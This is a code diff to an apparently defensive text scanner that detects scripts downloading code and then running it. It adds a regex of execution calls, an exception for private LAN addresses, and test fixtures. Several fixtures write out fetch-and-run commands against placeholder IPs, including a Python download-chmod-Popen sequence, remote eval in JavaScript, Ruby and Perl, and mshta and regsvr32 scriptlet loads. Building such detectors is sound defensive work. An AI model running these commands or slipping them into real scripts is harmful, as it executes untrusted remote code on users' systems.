@@ -160,6 +160,10 @@ function runsWrittenFile(doc: TextDoc, i: number, from: number): boolean {
 
 // ---- Fetch-and-run -------------------------------------------------------------------------
 
+// In a script, what a download from such a place is run by on the next lines: a mode made
+// executable by the language's own call, a process started, a string evaluated.
+const SCRIPT_RUNS = /\bos\.chmod\s*\([^\n]*0o?7[0-7]{2}|\bfs\.chmodSync\s*\(|\bsubprocess\.(?:Popen|run|call|check_call|check_output)\s*\(|\bos\.(?:system|popen|exec\w*|spawn\w*)\s*\(|\b(?:exec|eval)\s*\(|\b(?:execSync|execFileSync|spawnSync|spawn|execFile)\s*\(|\bStart-Process\b|\bInvoke-Expression\b|\biex\b/;
+
 // How many lines after a download a run of the downloaded file still counts as running it.
 const RUN_WINDOW = 3;
 
@@ -176,7 +180,9 @@ function scanFetchAndRun(doc: TextDoc, wantUntrusted: boolean): Hit[] {
     if (wantUntrusted) {
       if (!bad) continue;
       let runs = self !== null || runsOn(t, f.index);
-      for (let j = i; !runs && j < Math.min(lines.length, i + 1 + RUN_WINDOW); j++) runs = RUN_FILE.test(lines[j]!.text);
+      // A process started near a download is only the download's run when no home network is in play.
+      const scriptRuns = doc.kind === "script" && urls.some((u) => u.cls !== null && !(u.cls === "bare IP address" && PRIVATE_IPV4.test(hostOf(u.url) ?? "")));
+      for (let j = i; !runs && j < Math.min(lines.length, i + 1 + RUN_WINDOW); j++) runs = RUN_FILE.test(lines[j]!.text) || (scriptRuns && SCRIPT_RUNS.test(lines[j]!.text));
       if (runs) hits.push({ line: lines[i]!.number, excerpt: excerptOf(t), detail: `${bad.cls}: ${bad.url}` });
     } else {
       // A named host (or one the line does not show): an official installer, shown to a person.
@@ -764,6 +770,7 @@ export const TEXT_RULES: readonly TextRule[] = [
       "#!file:scripts/p.js\nhttps.get('https://203.0.113.40/m.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });",
       "#!file:scripts/b.rb\neval(URI.open('http://198.51.100.9/s.rb').read)",
       "perl -MLWP::Simple -e 'eval(get(\"http://203.0.113.61/p.pl\"))'",
+      "#!file:scripts/s.py\ndata = urllib.request.urlopen(\"http://198.51.100.61:8080/n\").read()\nopen(\"/tmp/.n\", \"wb\").write(data)\nos.chmod(\"/tmp/.n\", 0o755)\nsubprocess.Popen([\"/tmp/.n\"])",
       "mshta http://198.51.100.23/setup.hta",
       "regsvr32 /s /n /u /i:http://203.0.113.19/addin.sct scrobj.dll",
     ],
@@ -773,6 +780,7 @@ export const TEXT_RULES: readonly TextRule[] = [
       "See https://bit.ly/docs-link for the guide.",
       "curl -s http://203.0.113.7/status | jq .",
       "#!file:scripts/get.js\nhttps.get('https://203.0.113.40/data.json', (r) => r.pipe(process.stdout));",
+      "#!file:scripts/lan.py\nstate = requests.get(\"http://192.168.1.20/api/state\").json()\nif state[\"on\"]:\n    subprocess.run([\"notify-send\", \"lamp is on\"])",
     ],
     needs: mayFetch,
     scan: (doc) => scanFetchAndRun(doc, true),
